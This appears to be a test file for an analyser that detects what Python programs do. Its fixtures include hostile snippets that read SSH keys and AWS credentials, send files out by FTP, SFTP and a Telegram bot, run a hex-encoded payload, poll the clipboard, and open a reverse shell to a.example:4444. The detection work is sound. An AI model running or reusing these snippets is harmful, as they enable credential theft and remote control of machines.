import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { readFiles } from "./read-program.test-support.ts";

async function effectsOfPython(source: string) {
  const { effects } = await readFiles({ "main.py": source });
  return effects;
}

describe("files of Python", () => {
  const paths: Readonly<Record<string, readonly [string, readonly string[]]>> = {
    "joined with a slash": [`open(Path.home() / ".ssh" / "id_rsa").read()`, ["~/.ssh/id_rsa"]],
    "joined with a slash to a name": [
      `at = Path.home()\nfor name in [".ssh"]:\n  (at / name / "id_rsa").read_text()`,
      ["~/.ssh/id_rsa"],
    ],
    "beside the program": [`(Path(__file__).parent / "data" / "a.hex").read_text()`, ["./data/a.hex"]],
    "some folders up": [`(Path("/srv/app/bot/main.py").parents[1] / "a.hex").read_text()`, ["/srv/app/a.hex"]],
    "read as a path": [`(Path.home() / ".aws" / "credentials").read_text()`, ["~/.aws/credentials"]],
    "looked for below a folder": [`list(Path.home().rglob("*.key"))`, ["~/**/*.key"]],
    "all of a folder": [`list((Path.home() / "Documents").iterdir())`, ["~/Documents"]],
    "put into an archive": [`zipfile.ZipFile("/tmp/o.zip", "w").write("/a/b")`, ["/a/b"]],
    "a folder that is packed": [`shutil.make_archive("/tmp/o", "zip", "/a")`, ["/a"]],
  };
  for (const [name, [source, texts]] of Object.entries(paths)) {
    test(name, async () => {
      const effects = await effectsOfPython(`import shutil, zipfile\nfrom pathlib import Path\n${source}\n`);
      assert.deepEqual(
        effects.flatMap(({ kind, subject }) => (kind === "read" ? subject.texts : [])),
        texts,
      );
    });
  }

  test("a file of the arrival is found from where the program lies, by a name that a function is given", async () => {
    const { effects } = await readFiles({
      "tests/data/a.hex": Buffer.from("import os").toString("hex"),
      "tests/conftest.py": `from pathlib import Path\nDATA = Path(__file__).parent / "data"\ndef unpack(name):\n  return bytes.fromhex((DATA / name).read_text())\nexec(unpack("a.hex"))\n`,
    });
    assert.deepEqual(
      effects.flatMap(({ kind, subject }) => (kind === "evaluate" ? [subject.texts, subject.encodings] : [])),
      [["import os"], ["hex"]],
    );
  });

  test("an archive holds what was put into it", async () => {
    const effects = await effectsOfPython(`import zipfile\nz = zipfile.ZipFile("/tmp/o.zip", "w")\nz.write("/a/b")\n`);
    const write = effects.find(({ kind }) => kind === "write");
    assert.deepEqual(
      [write?.subject.texts, write?.payload?.origins.map(({ detail }) => detail)],
      [["/tmp/o.zip"], ["/a/b"]],
    );
  });

  test("a picture of the screen that is saved", async () => {
    const effects = await effectsOfPython(`from PIL import ImageGrab\nImageGrab.grab().save("/tmp/s.png")\n`);
    const write = effects.find(({ kind }) => kind === "write");
    assert.deepEqual(
      [write?.subject.texts, write?.payload?.origins.map(({ kind }) => kind)],
      [["/tmp/s.png"], ["screen"]],
    );
  });

  test("a division is a division", async () => {
    const effects = await effectsOfPython(`import requests\nrequests.get("https://a.example/" + str(int(6 / 2)))\n`);
    assert.deepEqual(effects.find(({ kind }) => kind === "request")?.subject.texts, ["https://a.example/3"]);
  });
});

describe("what Python sends over standing connections", () => {
  const ways: Readonly<Record<string, string>> = {
    FTP: `import ftplib\nf = ftplib.FTP("a.example")\nf.storbinary("STOR x", open("/a/b", "rb"))\n`,
    SFTP: `import paramiko\nc = paramiko.SSHClient()\nc.connect("a.example")\nc.open_sftp().put("/a/b", "x")\n`,
    "a chat's bot": `import telebot\nb = telebot.TeleBot("t")\nb.send_document(1, open("/a/b", "rb"))\n`,
  };
  for (const [name, source] of Object.entries(ways)) {
    test(`by ${name}`, async () => {
      const effects = await effectsOfPython(source);
      const sent = effects.flatMap(({ payload }) => payload?.origins.map(({ detail }) => detail) ?? []);
      assert.deepEqual(sent, ["/a/b"]);
    });
  }

  test("a socket that becomes the input of a shell", async () => {
    const effects = await effectsOfPython(
      `import os, socket, subprocess\ns = socket.socket()\ns.connect(("a.example", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n`,
    );
    assert.ok(effects.some(({ via, traits }) => via === "os.dup2" && traits.includes("piped")));
  });

  test("a clipboard that is read again and again", async () => {
    const effects = await effectsOfPython(
      `import pyperclip, time\nwhile True:\n    pyperclip.paste()\n    time.sleep(1)\n`,
    );
    assert.ok(effects.some(({ kind, traits }) => kind === "observe" && traits.includes("repeated")));
  });
});
